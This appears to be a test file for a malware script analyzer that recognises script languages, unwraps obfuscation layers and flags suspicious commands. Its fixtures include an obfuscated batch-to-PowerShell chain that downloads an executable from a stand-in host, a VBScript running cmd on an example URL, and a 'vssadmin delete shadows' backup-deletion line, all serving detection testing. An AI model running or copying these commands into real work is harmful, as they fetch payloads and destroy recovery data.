import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { growth, nearlyLinear } from '../../../scripts/test-growth.ts'
import { encodedScripts, encodeScript } from '../formats/encoded-script.ts'
import { scriptSamples } from '../gallery/scripts.ts'
import { damagedFile } from '../kit/damaged-files.ts'
import { reportOf } from '../kit/try.ts'
import { analyzer } from './analyzer.ts'
import { layersOf } from './layers.ts'

const run = (filename: string, file: string | Buffer) =>
  reportOf(analyzer, { dataType: 'file', file, filename })

describe('a script', () => {
  it.each([
    ['a.txt', '@echo off\r\nset x=1\r\necho %x% > nul\r\n', 'Batch'],
    ['a.txt', '$a = Get-ChildItem\nWrite-Host $a\n', 'PowerShell'],
    ['a', 'Dim a\r\nSet a = CreateObject("Scripting.FileSystemObject")\r\n', 'VBScript'],
    ['a', '#!/usr/bin/env python3\nprint(1)\n', 'Python'],
    ['a', '#!/bin/sh\necho 1\n', 'Shell'],
    ['a.js', 'var x = new ActiveXObject("WScript.Shell"); WScript.Sleep(1)', 'JScript'],
    ['a.js', 'const x = require("x")\nmodule.exports = () => { x() }\n', 'JavaScript'],
  ])('is recognized by its content: %s %j', async (name, text, language) => {
    expect((await run(name, text)).full.language).toBe(language)
  })

  it('is also read in UTF-16', async () => {
    const text = `\ufeff@echo off\r\nset x=1\r\n`
    expect((await run('a.bat', Buffer.from(text, 'utf16le'))).full.language).toBe('Batch')
  })

  it('shows its layers one by one, and what is in the deepest', async () => {
    const inner = 'Invoke-WebRequest http://deep.example.org/a.exe -OutFile a.exe'
    const middle = `Invoke-Expression ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String("${Buffer.from(inner).toString('base64')}")))`
    const outer = `@echo off\r\npow^ershell -enc ${Buffer.from(middle, 'utf16le').toString('base64')}\r\n`
    const { full, artifacts } = await run('a.bat', outer)
    const layers = full.layers as { how: string; text: string }[]
    expect(layers.map(({ how }) => how)).toEqual([
      'carets',
      'carets › base64',
      'carets › base64 › base64',
    ])
    expect(layers.at(-1)?.text).toBe(inner)
    expect(artifacts).toContainEqual(
      expect.objectContaining({ dataType: 'url', data: 'http://deep.example.org/a.exe' }),
    )
  })

  it('that was encoded for Windows is decoded', async () => {
    // The first line of the example in the documentation of the encoder.
    const known = '#@~^QwIAAA==@#@&0;\tmDkW\tP7nDb0zZKD.n1YAMGhk+Dvb`AAAAAA==^#~@'
    expect([...encodedScripts(known)]).toEqual(['\r\nfunction verifyCorrectBrowser(){'])
    const script =
      'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c <http://in.example.org/a>"'
    expect([...encodedScripts(encodeScript(script))]).toEqual([script])
    const { full, artifacts } = await run('a.vbe', encodeScript(script))
    expect(full).toMatchObject({ verdict: 'suspicious', layers: [{ how: 'script encoder' }] })
    expect(artifacts).toContainEqual(expect.objectContaining({ data: 'http://in.example.org/a' }))
  })

  it('whose encoding has no end costs nothing', () => {
    const many = '#@~^AAAAAA=='.repeat(200_000)
    expect([...encodedScripts(many)]).toEqual([])
    expect([...encodedScripts(`${many}==^#~@`)]).toHaveLength(1)
  })

  it('gives every finding an id, a sentence with the evidence, a technique and a confidence', async () => {
    const { full } = await run('a.bat', '@echo off\r\nset a=1\r\nvssadmin delete shadows /all\r\n')
    expect(full.verdict).toBe('suspicious')
    expect(full.findings).toEqual([
      {
        id: 'script.recovery-off',
        level: 'suspicious',
        confidence: 'high',
        predicate: 'Does',
        value: 'deletes backups',
        explanation: expect.stringContaining('vssadmin delete shadows'),
        parameters: { evidence: expect.stringContaining('vssadmin delete shadows') },
        technique: { id: 'T1490', name: 'Inhibit System Recovery' },
      },
    ])
  })
})

describe('ordinary files', () => {
  it.each([
    [
      'build.bat',
      '@echo off\r\nsetlocal\r\nset OUT=%~dp0\\out\r\nif not exist %OUT% md %OUT%\r\ncopy a.txt %OUT% > nul\r\n',
    ],
    [
      'login.ps1',
      'param($Name)\n$d = Get-Date\nGet-ChildItem $env:TEMP | Where-Object { $_.Length -gt 10 } | Remove-Item\n',
    ],
    [
      'list.vbs',
      'Dim f\r\nSet f = CreateObject("Scripting.FileSystemObject")\r\nWScript.Echo f.GetDriveName("C:")\r\n',
    ],
    [
      'lib.js',
      'const a = Buffer.from("aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0", "base64")\nexports.a = eval("1")\n',
    ],
    ['run.sh', '#!/bin/sh\nset -e\ncurl -fsSL https://example.org/a.tgz -o a.tgz\ntar xzf a.tgz\n'],
    [
      'tool.py',
      'import subprocess, base64\nx = base64.b64decode("aGVsbG8=")\nsubprocess.run(["ls"])\n',
    ],
    [
      'notes.txt',
      'To install it, run this command and wait until it is done.\n\n  powershell -c "Get-Date"\n',
    ],
  ])('are not flagged: %s', async (name, text) => {
    expect(['info', undefined]).toContain((await run(name, text)).full.verdict)
  })

  it('that are not scripts are skipped silently', async () => {
    expect((await run('a.bin', Buffer.alloc(5_000))).full).toEqual({ isScript: false })
    const own = readFileSync(new URL('../../../README.md', import.meta.url))
    expect((await run('README.md', own)).full).toEqual({ isScript: false })
  })
})

describe('hostile scripts', () => {
  it.each(
    scriptSamples()
      .slice(0, 8)
      .map((sample) => [sample.filename, sample.content] as const),
  )('that are a damaged %s give a report, wherever the damage is', async (filename, content) => {
    await fc.assert(
      fc.asyncProperty(damagedFile(content), async (file) => {
        expect((await run(filename, file)).success).toBe(true)
      }),
      { numRuns: 15 },
    )
  })

  it('with layers in layers end within the limits', () => {
    let text = 'echo hello and something to say http://example.org/'
    for (let depth = 0; depth < 30; depth += 1)
      text = `x = "${Buffer.from(text).toString('base64')}"`
    const { layers, incomplete } = layersOf(text)
    expect(layers.length).toBeLessThan(20)
    expect(incomplete.join()).toMatch(/more than 8 layers deep/)
  })

  it.each([
    ['quotes', 10_000, (count: number) => '"a"+'.repeat(count)],
    ['blanks', 50_000, (count: number) => ' '.repeat(count)],
    ['carets', 25_000, (count: number) => 'a^'.repeat(count)],
    ['numbers', 10_000, (count: number) => '1,'.repeat(count)],
    ['format', 2_500, (count: number) => `"${'{0}'.repeat(count)}" -f `.repeat(4)],
    ['chr', 5_000, (count: number) => 'Chr(1)&'.repeat(count)],
    ['sets', 2_500, (count: number) => 'set a=%a%%a%\n'.repeat(count)],
    ['letters', 50_000, (count: number) => 'A'.repeat(count)],
  ])('made of many %s take time in proportion to them', async (_, count, textOf) => {
    const scriptOf = (times: number) => `@echo off\n${textOf(count * times)}`
    expect(await growth(scriptOf, (script) => run('a.bat', script))).toBeLessThan(nearlyLinear)
  })
})
